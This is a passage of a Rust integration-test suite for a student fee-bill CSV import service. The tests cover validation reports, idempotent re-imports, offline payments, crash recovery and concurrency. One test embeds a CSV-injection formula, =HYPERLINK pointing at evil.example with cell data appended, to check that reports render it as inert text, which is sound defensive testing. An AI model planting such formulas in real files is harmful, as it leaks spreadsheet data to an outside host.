//! Fee-bill import against moto: files uploaded to the operators' bucket and imported by the
//! `import` function through the local platform's console invocation (and S3-shaped events).
//! A good file creates students and items the students then see; a file with bad rows writes
//! nothing but its report (row + reason each); GBK files read like UTF-8; the same bytes twice
//! change nothing; offline payments show in 已缴费信息; an interrupted import resumes; every
//! change has its audit entry.

use aws_sdk_dynamodb::types::AttributeValue;
use chrono::Duration;
use integration_tests::*;
use reqwest::StatusCode;
use serde_json::{Value, json};
use shared::clock::{Clock, beijing_date};
use shared::domain::ids::id_check_char;
use shared::domain::import::{ImportId, ImportState};
use shared::domain::*;
use shared::service::orders::Pick;
use shared::store::{AuditStore, BillWrite, Credential, FeeStore, ImportStore, StudentStore};
use std::collections::BTreeMap;

const HEADER: &str = "学号,姓名,身份证号,学年,收费项目代码,收费项目,收费类型,应缴金额,收费开始,收费结束,状态";
const OFFLINE_HEADER: &str = "学号,学年,收费项目代码,金额,缴费方式,凭证号,缴费时间,票据号";
/// 张三 of the demo data.
const ZHANG: &str = "2021010101";
const ZHANG_ID: &str = "620102199903151235";

/// A valid ID number for a birth date and sequence (check character computed).
fn id_no(birth: &str, seq: &str) -> String {
    let first17 = format!("620102{birth}{seq}");
    let b: [u8; 17] = first17.as_bytes().try_into().unwrap();
    format!("{first17}{}", id_check_char(&b) as char)
}

fn cur(t: &TestApp) -> u16 {
    local::seed::current_academic_year(beijing_date(t.clock.now()))
}

/// The academic year `back` years before the current one.
fn year(t: &TestApp, back: u16) -> String {
    let y = cur(t) - back;
    format!("{y}-{}", y + 1)
}

/// This academic year's charging window.
fn window(t: &TestApp) -> (String, String) {
    let y = cur(t);
    (format!("{y}-09-01"), format!("{}-08-31", y + 1))
}

/// A fee-bill row charging now.
#[allow(clippy::too_many_arguments)] // one row of the file
fn bill_row(t: &TestApp, no: &str, name: &str, id: &str, item: &str, item_name: &str, fee_type: &str, due: &str) -> String {
    let (s, e) = window(t);
    format!("{no},{name},{id},{},{item},{item_name},{fee_type},{due},{s},{e},收费", year(t, 0))
}

/// A fee-bill file's rows with the optional 手机号 column: each student's phone made from
/// their number (`2026990101` → `13826990101`), so new students can make their first login.
fn with_phones(rows: Vec<String>) -> String {
    let phoned = rows.into_iter().map(|r| {
        let no = r.split(',').next().unwrap().trim().to_owned();
        format!("{r},138{}", &no[no.len() - 8..])
    });
    std::iter::once(format!("{HEADER},手机号")).chain(phoned).collect::<Vec<_>>().join("\n")
}

async fn upload(t: &TestApp, key: &str, bytes: Vec<u8>) {
    let bucket = t.app.settings.ops_bucket.clone().unwrap();
    t.app.s3.as_ref().unwrap().put_object().bucket(bucket).key(key).body(bytes.into()).send().await.unwrap();
}

async fn object(t: &TestApp, key: &str) -> Option<Vec<u8>> {
    let bucket = t.app.settings.ops_bucket.clone().unwrap();
    let o = t.app.s3.as_ref().unwrap().get_object().bucket(bucket).key(key).send().await.ok()?;
    Some(o.body.collect().await.unwrap().into_bytes().to_vec())
}

/// The report as text (after its BOM, which it must have for Excel).
async fn report(t: &TestApp, key: &str) -> String {
    let bytes = object(t, key).await.unwrap_or_else(|| panic!("no report {key}"));
    let text = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("the report starts with a UTF-8 BOM");
    String::from_utf8(text.to_vec()).unwrap()
}

/// The console invocation: `{"key", "operator"}` posted to the running platform.
async fn invoke(t: &TestApp, event: Value) -> (StatusCode, Value) {
    let r = reqwest::Client::new().post(t.url("/_local/invoke/import")).json(&event).send().await.unwrap();
    (r.status(), r.json().await.unwrap())
}

/// Uploads `bytes` to `key` and imports it from the console as 财务处-张敏.
async fn import(t: &TestApp, key: &str, bytes: Vec<u8>) -> Value {
    upload(t, key, bytes).await;
    let (status, body) = invoke(t, json!({"key": key, "operator": "财务处-张敏"})).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    body
}

/// Every item of the table, by key, for "nothing else changed" comparisons.
/// Every item of the table and of its audit table.
async fn snapshot(t: &TestApp) -> BTreeMap<(String, String), String> {
    let mut out = BTreeMap::new();
    for table in [t.table.clone(), shared::store::dynamo::audit_table_of(&t.table)] {
        let mut start = None;
        loop {
            let page = t.app.store.client().scan().table_name(&table).set_exclusive_start_key(start.take()).send().await.unwrap();
            for item in page.items() {
                let k = |n: &str| match item.get(n) {
                    Some(AttributeValue::S(s)) => s.clone(),
                    _ => panic!("key"),
                };
                out.insert((k("pk"), k("sk")), canon(&AttributeValue::M(item.clone())));
            }
            match page.last_evaluated_key() {
                Some(k) if !k.is_empty() => start = Some(k.clone()),
                _ => break,
            }
        }
    }
    out
}

/// An attribute value as text, maps and sets in a fixed order.
fn canon(v: &AttributeValue) -> String {
    match v {
        AttributeValue::M(m) => {
            let mut kv: Vec<String> = m.iter().map(|(k, v)| format!("{k}={}", canon(v))).collect();
            kv.sort();
            format!("{{{}}}", kv.join(";"))
        }
        AttributeValue::L(l) => format!("[{}]", l.iter().map(canon).collect::<Vec<_>>().join(",")),
        AttributeValue::Ss(ss) => {
            let mut ss = ss.clone();
            ss.sort();
            format!("SS{ss:?}")
        }
        other => format!("{other:?}"),
    }
}

/// The keys of items added or changed between two snapshots.
fn differences(before: &BTreeMap<(String, String), String>, after: &BTreeMap<(String, String), String>) -> Vec<(String, String)> {
    after
        .iter()
        .filter(|(k, v)| before.get(*k) != Some(*v))
        .map(|(k, _)| k.clone())
        .chain(before.keys().filter(|k| !after.contains_key(*k)).cloned())
        .collect()
}

fn sno(s: &str) -> StudentNo {
    StudentNo::parse(s).unwrap()
}

async fn fees_json(t: &TestApp, no: &str, initial: &str) -> Value {
    let c = browser();
    t.login_ready(&c, no, initial, "Campus2026a").await;
    let r = t.get(&c, "/api/fees").await;
    assert_eq!(r.status(), StatusCode::OK);
    r.json().await.unwrap()
}

fn items_of(fees: &Value) -> Vec<Value> {
    fees["years"].as_array().unwrap().iter().flat_map(|y| y["items"].as_array().unwrap().clone()).collect()
}

/// The actions of some entries, sorted (entries of one transaction share their time).
fn actions(entries: &[AuditEntry]) -> Vec<&'static str> {
    let mut v: Vec<&'static str> = entries.iter().map(|e| e.action.as_str()).collect();
    v.sort();
    v
}

fn sorted(mut v: Vec<AuditAction>) -> Vec<&'static str> {
    let mut out: Vec<&'static str> = v.drain(..).map(AuditAction::as_str).collect();
    out.sort();
    out
}

fn zhang_min() -> Actor {
    Actor::Operator(OperatorName::parse("财务处-张敏").unwrap())
}

#[tokio::test]
async fn a_good_file_creates_students_and_items_the_students_see_with_audit_entries() {
    let t = spawn().await;
    let chen = id_no("20010203", "123");
    let lin = id_no("20020304", "246");
    let (s, e) = window(&t);
    let file = with_phones(vec![
        bill_row(&t, "2026990101", "陈一", &chen, "TUITION", "学费", "学费", "\"3,500.00\""),
        bill_row(&t, "2026990101", "陈一", &chen, "BOOKS", "教材费", "其他", "420.5"),
        // Columns may carry spaces; a stopped item.
        format!(" 2026990102 , 林二 ,{lin},{},TUITION,学费,学费,2800,{s},{e},停止", year(&t, 0)),
        // 张三 exists: this year's 考试费 changes (120.00 → 150.00), and a new item appears.
        bill_row(&t, ZHANG, "张三", ZHANG_ID, "EXAM", "考试费", "其他", "150"),
        bill_row(&t, ZHANG, "张三", ZHANG_ID, "INSURANCE", "保险费", "其他", "100"),
        // …and this year's 学费 stays as it is.
        bill_row(&t, ZHANG, "张三", ZHANG_ID, "TUITION", "学费", "学费", "3800"),
    ]);
    let out = import(&t, "imports/2026-fees.csv", file.into_bytes()).await;
    assert_eq!(out["status"], "applied", "{out}");
    assert_eq!(out["kind"], "fee_bill");
    assert_eq!(out["report_key"], "imports/2026-fees.report.csv");
    assert_eq!(
        out["summary"],
        json!({"rows": 6, "students_created": 2, "phones_added": 0, "items_created": 4, "items_updated": 1, "items_unchanged": 1, "offline_recorded": 0, "offline_already_recorded": 0})
    );
    let text = report(&t, "imports/2026-fees.report.csv").await;
    for line in ["结果,已全部导入", "导入行数,6", "新建学生,2", "新建收费项目,4", "更新收费项目,1", "未变化的收费项目,1"]
    {
        assert!(text.contains(line), "{line} in {text}");
    }

    // 陈一 logs in with the last 8 ID characters (and must change the password), and sees the bill.
    let fees = fees_json(&t, "2026990101", &chen[10..]).await;
    assert_eq!(fees["total_due"], "3920.50");
    let items = items_of(&fees);
    assert_eq!(items.len(), 2);
    let books = items.iter().find(|i| i["item_id"] == "BOOKS").unwrap();
    assert_eq!(
        (books["name"].as_str(), books["fee_type"].as_str(), books["payable"].as_bool()),
        (Some("教材费"), Some("其他"), Some(true))
    );
    let lin_fees = fees_json(&t, "2026990102", &lin[10..]).await;
    assert_eq!(items_of(&lin_fees)[0]["not_payable_reason"], "暂停收费");
    let lin_student = t.app.store.get_student(&sno("2026990102")).await.unwrap().unwrap();
    assert_eq!(lin_student.name.as_str(), "林二");
    assert_eq!(lin_student.gender, lin_student.id_card.gender());
    let zhang = t.app.store.list_fee_items(&sno(ZHANG)).await.unwrap();
    let exam = zhang.iter().find(|i| i.item_id.as_str() == "EXAM" && i.academic_year.to_string() == year(&t, 0)).unwrap();
    assert_eq!(exam.due, Fen::new(15_000));
    assert!(zhang.iter().any(|i| i.item_id.as_str() == "INSURANCE"));

    // Audit: who (the operator named in the event), which request, which file and row.
    // (Their own first-login password change is logged too, as theirs.)
    let chen_log: Vec<AuditEntry> = t
        .app
        .store
        .audit_for_student(&sno("2026990101"))
        .await
        .unwrap()
        .into_iter()
        .filter(|e| e.actor != Actor::Student(sno("2026990101")))
        .collect();
    assert_eq!(actions(&chen_log), sorted(vec![AuditAction::StudentImported, AuditAction::FeeItemImported, AuditAction::FeeItemImported]));
    for entry in &chen_log {
        assert_eq!(entry.actor, zhang_min());
        assert!(entry.request_id.as_deref().is_some_and(|r| r.starts_with("local-")), "{entry:?}");
        assert!(entry.reason.as_deref().is_some_and(|r| r.contains("imports/2026-fees.csv row")), "{entry:?}");
    }
    assert!(!format!("{chen_log:?}").contains(&chen), "no full ID number in the audit log");
    let zhang_log = t.app.store.audit_for_student(&sno(ZHANG)).await.unwrap();
    let updated: Vec<&AuditEntry> = zhang_log.iter().filter(|e| e.action == AuditAction::FeeItemUpdated).collect();
    assert_eq!(updated.len(), 1);
    assert_eq!(updated[0].target.as_deref(), Some(format!("{}#EXAM", year(&t, 0)).as_str()));
    assert!(
        updated[0].before.as_deref().unwrap().contains("due_fen=12000") && updated[0].after.as_deref().unwrap().contains("due_fen=15000")
    );
    assert_eq!(updated[0].reason.as_deref().map(|r| r.contains("row 5")), Some(true));
    let id = ImportId::parse(out["import_id"].as_str().unwrap()).unwrap();
    let file_log = t.app.store.audit_for_import(&id).await.unwrap();
    assert_eq!(actions(&file_log), sorted(vec![AuditAction::ImportApplied]));
    assert_eq!(file_log[0].student_no, None);
    assert_eq!(t.app.store.get_import(&id).await.unwrap().unwrap().state, ImportState::Applied);
}

#[tokio::test]
async fn a_file_with_bad_rows_writes_nothing_and_its_report_names_each_row() {
    let t = spawn().await;
    // 张三's oldest 学费 has 2000.00 paid; his 教材费 of last year sits in an open order.
    let held = t
        .app
        .create_or_reuse_order(&authed(ZHANG), &[Pick { academic_year: year(&t, 1), item_id: "BOOKS".into() }], None)
        .await
        .unwrap()
        .0
        .order_no;
    let good = id_no("20010203", "123");
    let mut bad_check = good.clone().into_bytes();
    bad_check[17] = if bad_check[17] == b'1' { b'2' } else { b'1' };
    let bad_check = String::from_utf8(bad_check).unwrap();
    let (s, e) = window(&t);
    let y = year(&t, 0);
    let file = [
        HEADER.to_owned(),
        bill_row(&t, "2026990201", "陈一", &good, "TUITION", "学费", "学费", "3500"), // 2: good on its own
        bill_row(&t, "2026990202", "陈二", &bad_check, "TUITION", "学费", "学费", "3500"), // 3
        format!("2026990203,陈三,{good},{}-{},TUITION,学费,学费,3500,{s},{e},收费", cur(&t), cur(&t) + 2), // 4
        bill_row(&t, "2026990204", "陈四", &good, "TUITION", "学费", "学费", "3500.001"), // 5
        format!("2026990205,陈五,{good},{y},TUITION,学费,学费,3500,{e},{s},收费"),    // 6
        bill_row(&t, "2026990201", "陈一", &good, "TUITION", "学费", "学费", "3600"), // 7: duplicate of 2
        bill_row(&t, "2021010102", "李五", "62010220000708456X", "EXAM", "考试费", "其他", "120"), // 8: 李四 by another name
        format!("{ZHANG},张三,{ZHANG_ID},{},TUITION,学费,学费,1000,{s},{e},收费", year(&t, 2)), // 9: below paid
        format!("{ZHANG},张三,{ZHANG_ID},{},BOOKS,教材费,其他,500,{s},{e},收费", year(&t, 1)), // 10: held
    ]
    .join("\r\n");
    let before = snapshot(&t).await;
    let out = import(&t, "imports/bad.csv", file.into_bytes()).await;
    assert_eq!(out["status"], "rejected", "{out}");
    let rows: Vec<u64> = out["errors"].as_array().unwrap().iter().map(|e| e["row"].as_u64().unwrap()).collect();
    assert_eq!(rows, [3, 4, 5, 6, 7, 8, 9, 10], "every bad row, and only those");

    let text = report(&t, "imports/bad.report.csv").await;
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "行号,学号,原因");
    assert!(lines[1].contains("未导入") && lines[1].contains("8 行错误"), "{}", lines[1]);
    let expected = [
        "3,2026990202,身份证号校验位不正确".to_owned(),
        "4,2026990203,学年格式应为2025-2026".to_owned(),
        "5,2026990204,应缴金额最多两位小数".to_owned(),
        "6,2026990205,收费开始晚于收费结束".to_owned(),
        "7,2026990201,与第2行重复（同一学号、学年、收费项目代码）".to_owned(),
        "8,2021010102,学号已存在，但姓名与系统中的不同".to_owned(),
        format!("9,{ZHANG},应缴金额 1000.00 元低于该项目已缴金额 2000.00 元"),
        format!("10,{ZHANG},该收费项目在未完成的缴费单 {held} 中，暂不能修改应缴金额（缴费单支付、取消或过期后再导入）"),
    ];
    assert_eq!(&lines[2..], expected.iter().map(String::as_str).collect::<Vec<_>>().as_slice());

    // Nothing written but the manifest (rejected) and the rejection's audit entry.
    let after = snapshot(&t).await;
    let id = ImportId::parse(out["import_id"].as_str().unwrap()).unwrap();
    let added = differences(&before, &after);
    assert_eq!(added.len(), 2, "{added:?}");
    assert!(added.iter().all(|(pk, _)| *pk == format!("IMPORT#{id}")), "{added:?}");
    assert!(t.app.store.get_student(&sno("2026990201")).await.unwrap().is_none());
    let log = t.app.store.audit_for_import(&id).await.unwrap();
    assert_eq!(actions(&log), sorted(vec![AuditAction::ImportRejected]));
    assert_eq!((log[0].actor.clone(), log[0].after.as_deref()), (zhang_min(), Some("rejected rows=9 bad_rows=8")));
    assert!(t.app.store.audit_for_student(&sno("2026990201")).await.unwrap().is_empty());
    assert_eq!(t.app.store.get_import(&id).await.unwrap().unwrap().state, ImportState::Rejected);

    // A file that is not CSV of either kind: one line for the whole file.
    let out = import(&t, "imports/notes.csv", "备注,说明\n1,2\n".as_bytes().to_vec()).await;
    assert_eq!(out["status"], "rejected");
    let text = report(&t, "imports/notes.report.csv").await;
    assert!(text.lines().nth(2).unwrap().starts_with(",,表头不是可识别的格式"), "{text}");
}

#[tokio::test]
async fn a_gbk_file_uploaded_to_s3_is_imported_as_its_uploader() {
    let t = spawn().await;
    let wang = id_no("19990506", "357");
    let text = with_phones(vec![bill_row(&t, "2026990301", "欧阳·娜娜", &wang, "TUITION", "学费", "学费", "2600")]) + "\n";
    let (gbk, _, unmappable) = encoding_rs::GBK.encode(&text);
    assert!(!unmappable && std::str::from_utf8(&gbk).is_err(), "really GBK bytes");
    let key = "imports/2026 秋季 名单.csv";
    upload(&t, key, gbk.into_owned()).await;
    // The upload's event: the key URL-encoded with '+' for spaces, the uploader's principal.
    let event = json!({"Records": [{
        "eventVersion": "2.1", "eventSource": "aws:s3", "eventTime": "2026-12-07T02:03:04.000Z", "eventName": "ObjectCreated:Put",
        "userIdentity": {"principalId": "AWS:AROAEXAMPLE:zhang.min"},
        "requestParameters": {"sourceIPAddress": "203.0.113.7"}, "responseElements": {},
        "s3": {"bucket": {"name": t.app.settings.ops_bucket.clone().unwrap()},
               "object": {"key": "imports/2026+%E7%A7%8B%E5%AD%A3+%E5%90%8D%E5%8D%95.csv"}}
    }]});
    let (status, out) = invoke(&t, event).await;
    assert_eq!(status, StatusCode::OK, "{out}");
    assert_eq!(out["results"][0]["status"], "applied", "{out}");
    assert!(report(&t, "imports/2026 秋季 名单.report.csv").await.contains("新建学生,1"));
    let st = t.app.store.get_student(&sno("2026990301")).await.unwrap().unwrap();
    assert_eq!(st.name.as_str(), "欧阳·娜娜", "decoded from GBK");
    let log = t.app.store.audit_for_student(&sno("2026990301")).await.unwrap();
    assert_eq!(log[0].actor, Actor::Operator(OperatorName::parse("AWS/AROAEXAMPLE/zhang.min").unwrap()));
    assert_eq!(items_of(&fees_json(&t, "2026990301", &wang[10..]).await)[0]["due"], "2600.00");

    // The function's own report under imports/ is not an import.
    let (status, out) = invoke(&t, json!({"key": "imports/2026 秋季 名单.report.csv", "operator": "财务处-张敏"})).await;
    assert_eq!((status, out["status"].as_str()), (StatusCode::OK, Some("ignored")));
    // An event without an operator is refused, saying what it needs.
    let (status, out) = invoke(&t, json!({"key": key})).await;
    assert_eq!(status, StatusCode::INTERNAL_SERVER_ERROR);
    assert!(out["errorMessage"].as_str().unwrap().contains("operator"), "{out}");
}

#[tokio::test]
async fn the_same_file_twice_changes_nothing() {
    let t = spawn().await;
    let chen = id_no("20010203", "123");
    let file = [
        HEADER.to_owned(),
        bill_row(&t, "2026990401", "陈一", &chen, "TUITION", "学费", "学费", "3500"),
        bill_row(&t, ZHANG, "张三", ZHANG_ID, "EXAM", "考试费", "其他", "150"),
    ]
    .join("\n")
    .into_bytes();
    let first = import(&t, "imports/once.csv", file.clone()).await;
    assert_eq!(first["status"], "applied");
    let first_report = object(&t, "imports/once.report.csv").await.unwrap();
    let before = snapshot(&t).await;
    let audit_before =
        (t.app.store.audit_for_student(&sno("2026990401")).await.unwrap(), t.app.store.audit_for_student(&sno(ZHANG)).await.unwrap());

    // Again, under the same name and under another.
    let again = import(&t, "imports/once.csv", file.clone()).await;
    assert_eq!(again["status"], "already_imported", "{again}");
    assert!(again["message"].as_str().unwrap().contains("未做任何更改"));
    let copy = import(&t, "imports/copy-of-once.csv", file).await;
    assert_eq!(copy["status"], "already_imported");
    assert_eq!(copy["import_id"], first["import_id"]);

    assert_eq!(differences(&before, &snapshot(&t).await), Vec::<(String, String)>::new(), "not one item changed");
    let audit_after =
        (t.app.store.audit_for_student(&sno("2026990401")).await.unwrap(), t.app.store.audit_for_student(&sno(ZHANG)).await.unwrap());
    assert_eq!(audit_after, audit_before, "no new audit entries");
    assert_eq!(object(&t, "imports/once.report.csv").await.unwrap(), first_report, "the report stays");
    assert!(object(&t, "imports/copy-of-once.report.csv").await.is_none());
}

#[tokio::test]
async fn offline_payments_are_imported_once_and_show_in_paid_records() {
    let t = spawn().await;
    let chen = id_no("20010203", "123");
    let bill = with_phones(vec![
        bill_row(&t, "2026990501", "陈一", &chen, "TUITION", "学费", "学费", "3500"),
        bill_row(&t, "2026990501", "陈一", &chen, "BOOKS", "教材费", "其他", "420.50"),
    ]);
    assert_eq!(import(&t, "imports/bill.csv", bill.into_bytes()).await["status"], "applied");

    let y = year(&t, 0);
    let paid_day = beijing_date(t.clock.now() - Duration::days(3));
    let offline = [
        OFFLINE_HEADER.to_owned(),
        // One bank slip paying both items; then a cash payment for 张三's 考试费.
        format!("2026990501,{y},TUITION,3500,银行转账,yh-2026-001,{paid_day} 10:30,GS001"),
        format!("2026990501,{y},BOOKS,420.50,银行转账,YH-2026-001,{paid_day} 10:30,GS001"),
        format!("{ZHANG},{y},EXAM,120,现金,CASH-77,{paid_day},"),
    ]
    .join("\n")
    .into_bytes();
    let out = import(&t, "imports/bank.csv", offline.clone()).await;
    assert_eq!(out["status"], "applied", "{out}");
    assert_eq!(out["kind"], "offline_payments");
    assert_eq!((out["summary"]["offline_recorded"].as_u64(), out["summary"]["rows"].as_u64()), (Some(2), Some(3)));
    assert!(report(&t, "imports/bank.report.csv").await.contains("入账的线下缴费,2"));

    // 已缴费信息 as the site asks for it.
    let c = browser();
    t.login_ready(&c, "2026990501", &chen[10..], "Campus2026a").await;
    let paid: Value = t.get(&c, "/api/paid").await.json().await.unwrap();
    let records = paid["records"].as_array().unwrap();
    assert_eq!(records.len(), 1, "{paid}");
    let r = &records[0];
    assert_eq!(r["id"], "offline-YH-2026-001");
    assert_eq!(
        (r["source_label"].as_str(), r["method_label"].as_str(), r["receipt_no"].as_str()),
        (Some("线下缴费"), Some("银行转账"), Some("GS001"))
    );
    assert_eq!((r["total"].as_str(), r["items_count"].as_u64()), (Some("3920.50"), Some(2)));
    let fees: Value = t.get(&c, "/api/fees").await.json().await.unwrap();
    assert_eq!((fees["total_paid"].as_str(), fees["total_outstanding"].as_str()), (Some("3920.50"), Some("0.00")));
    let log = t.app.store.audit_for_student(&sno("2026990501")).await.unwrap();
    let recorded: Vec<&AuditEntry> = log.iter().filter(|e| e.action == AuditAction::OfflinePaymentRecorded).collect();
    assert_eq!(recorded.len(), 1);
    assert_eq!((recorded[0].actor.clone(), recorded[0].target.as_deref()), (zhang_min(), Some("YH-2026-001")));
    assert!(recorded[0].reason.as_deref().unwrap().contains("imports/bank.csv rows 2,3"));

    // The same file again (under another name) credits nothing twice.
    let before = snapshot(&t).await;
    assert_eq!(import(&t, "imports/bank-again.csv", offline).await["status"], "already_imported");
    assert_eq!(differences(&before, &snapshot(&t).await), Vec::<(String, String)>::new());

    // A payment for an item the student does not have, or a reused reference: rejected.
    let wrong = [
        OFFLINE_HEADER.to_owned(),
        format!("2026990501,{y},EXAM,10,现金,CASH-78,{paid_day},"),
        format!("2026990501,{y},TUITION,1,现金,CASH-77,{paid_day},"),
        format!("2026999999,{y},TUITION,1,现金,CASH-79,{paid_day},"),
    ]
    .join("\n");
    let out = import(&t, "imports/wrong.csv", wrong.into_bytes()).await;
    assert_eq!(out["status"], "rejected");
    let reasons: Vec<(u64, &str)> =
        out["errors"].as_array().unwrap().iter().map(|e| (e["row"].as_u64().unwrap(), e["reason"].as_str().unwrap())).collect();
    let expected_first = format!("该学生没有 {y} 学年的收费项目 EXAM");
    assert_eq!(reasons, [(2, expected_first.as_str()), (3, "凭证号已被另一笔线下缴费使用"), (4, "学号不存在（请先导入收费名单）")]);
}

#[tokio::test]
async fn an_interrupted_import_is_finished_by_the_next_run() {
    let t = spawn().await;
    let chen = id_no("20010203", "123");
    let lin = id_no("20020304", "246");
    let file = [
        HEADER.to_owned(),
        bill_row(&t, "2026990601", "陈一", &chen, "TUITION", "学费", "学费", "3500"),
        bill_row(&t, "2026990602", "林二", &lin, "TUITION", "学费", "学费", "2800"),
    ]
    .join("\n")
    .into_bytes();
    let key = "imports/crash.csv";
    upload(&t, key, file.clone()).await;
    // A run validated the file and applied its first student, then died.
    let id = ImportId::of(&file);
    let by = By::new(zhang_min(), t.clock.now()).with_request("crashed-run");
    let attempt = t.app.store.begin_import_validation(&id, key, &by).await.unwrap();
    t.app.store.start_applying_import(&id, attempt, shared::domain::import::ImportKind::FeeBill, 2, &by).await.unwrap();
    let parsed = shared::domain::import::parse_import(&file, t.clock.now()).unwrap();
    let shared::domain::import::ImportRows::FeeBill(rows) = parsed.rows else { panic!() };
    let first = &rows[0];
    let student = Student {
        student_no: first.student_no.clone(),
        name: first.name.clone(),
        gender: first.id_card.gender(),
        id_card: first.id_card.clone(),
        department: String::new(),
        class_name: String::new(),
        kind: AccountKind::Student,
        contact: Contact::default(),
    };
    let credential = Credential::initial(t.clock.now() + chrono::Duration::days(30));
    let writes = [
        BillWrite::CreateStudent { student: Box::new(student), credential, row: 2 },
        BillWrite::CreateItem { item: first.item.clone(), row: 2 },
    ];
    t.app.store.apply_bill_writes(&first.student_no, &writes, &id, key, &by).await.unwrap();
    assert_eq!(t.app.store.get_import(&id).await.unwrap().unwrap().state, ImportState::Applying);

    // The retry (S3 retries a failed invocation; or the operator runs it again) finishes it.
    let (status, out) = invoke(&t, json!({"key": key, "operator": "财务处-张敏"})).await;
    assert_eq!(status, StatusCode::OK, "{out}");
    assert_eq!(out["status"], "applied");
    assert_eq!((out["summary"]["students_created"].as_u64(), out["summary"]["items_unchanged"].as_u64()), (Some(1), Some(1)), "{out}");
    assert_eq!(t.app.store.get_import(&id).await.unwrap().unwrap().state, ImportState::Applied);
    assert!(t.app.store.get_student(&sno("2026990602")).await.unwrap().is_some());
    // Each change happened, and was logged, once.
    let chen_log = t.app.store.audit_for_student(&sno("2026990601")).await.unwrap();
    assert_eq!(actions(&chen_log), sorted(vec![AuditAction::StudentImported, AuditAction::FeeItemImported]));
    assert_eq!(chen_log[0].request_id.as_deref(), Some("crashed-run"));
    assert_eq!(
        actions(&t.app.store.audit_for_student(&sno("2026990602")).await.unwrap()),
        sorted(vec![AuditAction::StudentImported, AuditAction::FeeItemImported])
    );
    assert_eq!(actions(&t.app.store.audit_for_import(&id).await.unwrap()), sorted(vec![AuditAction::ImportApplied]));
    assert_eq!(t.app.store.list_fee_items(&sno("2026990601")).await.unwrap().len(), 1);
}

#[tokio::test]
async fn a_file_refused_for_an_open_order_goes_in_once_the_order_is_cancelled() {
    let t = spawn().await;
    let zhang = authed(ZHANG);
    let (order, _) =
        t.app.create_or_reuse_order(&zhang, &[Pick { academic_year: year(&t, 0), item_id: "EXAM".into() }], None).await.unwrap();
    let file = [HEADER.to_owned(), bill_row(&t, ZHANG, "张三", ZHANG_ID, "EXAM", "考试费", "其他", "150")].join("\n").into_bytes();
    let out = import(&t, "imports/exam.csv", file.clone()).await;
    assert_eq!(out["status"], "rejected");
    assert!(out["errors"][0]["reason"].as_str().unwrap().contains(&order.order_no));

    // The student cancels the order: the same bytes, uploaded again, now go in.
    t.app.cancel_order(&zhang, &order.order_no).await.unwrap();
    let out = import(&t, "imports/exam.csv", file).await;
    assert_eq!(out["status"], "applied", "{out}");
    assert_eq!(out["summary"]["items_updated"], 1);
    let exam = t
        .app
        .store
        .list_fee_items(&sno(ZHANG))
        .await
        .unwrap()
        .into_iter()
        .find(|i| i.item_id.as_str() == "EXAM" && i.academic_year.to_string() == year(&t, 0))
        .unwrap();
    assert_eq!(exam.due, Fen::new(15_000));
    let id = ImportId::parse(out["import_id"].as_str().unwrap()).unwrap();
    assert_eq!(
        actions(&t.app.store.audit_for_import(&id).await.unwrap()),
        sorted(vec![AuditAction::ImportRejected, AuditAction::ImportApplied])
    );
}

#[tokio::test]
async fn two_runs_of_one_file_at_once_apply_it_once() {
    let t = spawn().await;
    let rows: Vec<String> = (0..6)
        .map(|i| {
            bill_row(&t, &format!("20269907{i:02}"), "陈一", &id_no("20010203", &format!("1{i:02}")), "TUITION", "学费", "学费", "3500")
        })
        .collect();
    let file = [vec![HEADER.to_owned()], rows].concat().join("\n").into_bytes();
    upload(&t, "imports/a.csv", file.clone()).await;
    upload(&t, "imports/b.csv", file).await;
    let (a, b) = tokio::join!(
        invoke(&t, json!({"key": "imports/a.csv", "operator": "财务处-张敏"})),
        invoke(&t, json!({"key": "imports/b.csv", "operator": "财务处-李华"}))
    );
    let statuses = [a.1["status"].as_str().unwrap().to_owned(), b.1["status"].as_str().unwrap().to_owned()];
    assert!(statuses.iter().any(|s| s == "applied"), "{statuses:?}");
    assert!(statuses.iter().all(|s| ["applied", "in_progress", "already_imported"].contains(&s.as_str())), "{statuses:?}");
    // Whatever the interleaving: each student and item exists once, created (and logged) once.
    for i in 0..6 {
        let no = sno(&format!("20269907{i:02}"));
        assert_eq!(t.app.store.list_fee_items(&no).await.unwrap().len(), 1);
        assert_eq!(
            actions(&t.app.store.audit_for_student(&no).await.unwrap()),
            sorted(vec![AuditAction::StudentImported, AuditAction::FeeItemImported])
        );
    }
    let id = ImportId::parse(a.1["import_id"].as_str().unwrap()).unwrap();
    assert_eq!(actions(&t.app.store.audit_for_import(&id).await.unwrap()), sorted(vec![AuditAction::ImportApplied]));
}

/// CSV injection: a file whose 学号 cell is a formula is refused, and its report — which the
/// operator opens in Excel — shows the formula as text (a leading `'`), so opening the report
/// runs nothing.
#[tokio::test]
async fn a_formula_in_a_file_comes_back_in_its_report_as_text() {
    let t = spawn().await;
    let attack = r#"=HYPERLINK("http://evil.example/?"&A1,"点此查看")"#;
    let file = [
        HEADER.to_owned(),
        bill_row(&t, &format!("\"{}\"", attack.replace('"', "\"\"")), "陈一", &id_no("20010203", "123"), "TUITION", "学费", "学费", "3500"),
    ]
    .join("\r\n");
    let out = import(&t, "imports/formula.csv", file.into_bytes()).await;
    assert_eq!(out["status"], "rejected", "{out}");
    let text = report(&t, "imports/formula.report.csv").await;
    let mut rows = csv::Reader::from_reader(text.as_bytes());
    let cells: Vec<String> = rows.records().map(|r| r.unwrap()[1].to_owned()).collect();
    assert!(cells.iter().any(|c| c == &format!("'{attack}")), "the formula as text: {cells:?}");
    assert!(cells.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])), "no cell a spreadsheet would evaluate: {cells:?}");
}

/// A file over the size limit (20 MB deployed; 1 KB here) is refused before it is read: nothing
/// is stored, and its report says why and what to do.
#[tokio::test]
async fn a_file_over_the_size_limit_is_refused_unread() {
    let t = spawn_with(|app| app.settings.import_max_bytes = 1024).await;
    let rows: Vec<String> = (0..20)
        .map(|i| bill_row(&t, &format!("20269903{i:02}"), "陈一", &id_no("20010203", "123"), "TUITION", "学费", "学费", "3500"))
        .collect();
    let file = format!("{HEADER}\r\n{}", rows.join("\r\n"));
    assert!(file.len() > 1024);
    let before = snapshot(&t).await;
    let out = import(&t, "imports/huge.csv", file.into_bytes()).await;
    assert_eq!(out["status"], "rejected", "{out}");
    assert_eq!(snapshot(&t).await, before, "nothing stored, not even a manifest");
    let text = report(&t, "imports/huge.report.csv").await;
    assert!(text.contains("文件过大") && text.contains("上限 0.0 MB"), "{text}");
}

/// 郑十 has no phone on file, so his first login is refused (issue #12). The college's next
